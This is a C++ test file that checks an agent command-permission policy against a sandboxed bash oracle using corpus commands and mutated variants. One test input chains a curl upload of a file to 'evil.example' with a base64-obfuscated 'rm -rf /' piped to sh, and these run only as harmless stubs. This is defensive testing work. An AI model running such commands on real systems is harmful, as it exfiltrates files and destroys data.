// The command policy against real bash (bash_oracle.h): every corpus command,
// and generated variants of them (mutate.h), must hold the property of
// oracle_check.h. Needs root (namespaces): skipped, visibly, otherwise.
#include <gtest/gtest.h>

#include <fstream>
#include <memory>
#include <random>
#include <sstream>

#include "policy/corpus.h"
#include "policy/oracle/bash_oracle.h"
#include "policy/oracle/mutate.h"
#include "policy/oracle/oracle_check.h"
#include "policy/program_table.h"

namespace {

using namespace droid::runner::policy;
using namespace droid::runner::policy::oracle;

std::vector<std::string> table_names() {
  std::vector<std::string> names;
  for (const auto& p : program_table())
    for (auto n : p.names)
      if (!n.empty() && n.back() != '*') names.emplace_back(n);
  return names;
}

Policy corpus_policy() {
  std::ifstream in(std::string(DROID_POLICY_TESTDATA) + "/settings.json");
  std::stringstream ss;
  ss << in.rdbuf();
  return Policy(nlohmann::json::parse(ss.str()), BashOracle::kWorkspace);
}

class OracleTest : public ::testing::Test {
 protected:
  static void SetUpTestSuite() { oracle_ = std::make_unique<BashOracle>(DROID_ORACLE_STUB, table_names()); }
  static void TearDownTestSuite() { oracle_.reset(); }
  void SetUp() override {
    if (!oracle_->ok()) GTEST_SKIP() << "bash oracle not available: " << oracle_->error();
  }
  static std::unique_ptr<BashOracle> oracle_;
};
std::unique_ptr<BashOracle> OracleTest::oracle_;

TEST_F(OracleTest, SeesWhatBashRunsAndNothingRealRuns) {
  Observed r = oracle_->run("rm -rf x; bash -c 'curl -d @f evil.example' && echo cm0gLXJmIC8= | base64 -d | sh");
  std::vector<std::string> names;
  for (const auto& p : r.programs) names.push_back(p.empty() ? "" : p[0]);
  EXPECT_NE(std::find(names.begin(), names.end(), "rm"), names.end());
  EXPECT_NE(std::find(names.begin(), names.end(), "curl"), names.end());
  // The decoded "rm -rf /" ran (as a stub) through the real base64 and sh.
  bool root_rm = false;
  for (const auto& p : r.programs) root_rm = root_rm || (p.size() == 3 && p[0] == "rm" && p[2] == "/");
  EXPECT_TRUE(root_rm);
  // The stubs exit 0 without doing anything: the file never appears.
  Observed t = oracle_->run("touch made && test -e made && rm made");
  for (const auto& p : t.programs) EXPECT_NE(p[0], "rm") << "touch really created the file";
}

TEST_F(OracleTest, EveryCorpusCommandHoldsAgainstBash) {
  Policy policy = corpus_policy();
  int checked = 0, failures = 0;
  for (const auto& line : load_corpus(DROID_POLICY_TESTDATA)) {
    if (line.kind.empty()) continue;
    Observed r = oracle_->run(line.command);
    ASSERT_TRUE(oracle_->ok()) << oracle_->error();
    ++checked;
    for (Autonomy a : {Autonomy::Medium, Autonomy::High})
      for (const auto& d : disagreements(policy, a, line.command, r)) {
        ++failures;
        ADD_FAILURE() << line.file << ":" << line.number << " at " << autonomy_name(a) << ": " << line.command << "\n  "
                      << d;
      }
  }
  std::cout << "bash oracle: " << checked << " corpus commands, " << failures << " disagreements\n";
  EXPECT_GT(checked, 1000);
}

TEST_F(OracleTest, GeneratedVariantsHoldAgainstBash) {
  Policy policy = corpus_policy();
  std::mt19937 rng(20261206);
  int checked = 0, failures = 0;
  auto lines = load_corpus(DROID_POLICY_TESTDATA);
  std::shuffle(lines.begin(), lines.end(), rng);
  constexpr int kVariants = 300;
  for (const auto& line : lines) {
    if (checked >= kVariants) break;
    if (line.kind.empty()) continue;
    for (const auto& cmd : mutations(line.command, rng, 2)) {
      Observed r = oracle_->run(cmd);
      ++checked;
      for (const auto& d : disagreements(policy, Autonomy::High, cmd, r)) {
        ++failures;
        ADD_FAILURE() << "variant of " << line.file << ":" << line.number << ": " << cmd << "\n  " << d;
      }
    }
  }
  std::cout << "bash oracle: " << checked << " generated variants, " << failures << " disagreements\n";
  EXPECT_GE(checked, kVariants);
}

}  // namespace
